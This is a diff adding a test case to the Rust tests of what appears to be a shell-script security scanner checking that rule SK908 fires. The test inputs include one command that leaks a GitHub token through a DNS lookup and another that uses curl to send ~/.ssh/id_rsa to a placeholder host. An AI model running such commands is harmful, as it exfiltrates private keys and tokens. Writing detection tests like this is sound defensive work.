@@ -811,6 +811,8 @@ mod tests {
         assert_eq!(codes("a.sh", s), ["SK908"]);
         let s = "dig $GITHUB_TOKEN.x.example\n";
         assert_eq!(codes("a.sh", s), ["SK908"]);
+        let s = "curl -s \"https://k.example/c?k=$(cat ~/.ssh/id_rsa)\"\n";
+        assert_eq!(codes("a.sh", s), ["SK908"]);
     }
 
     #[test]
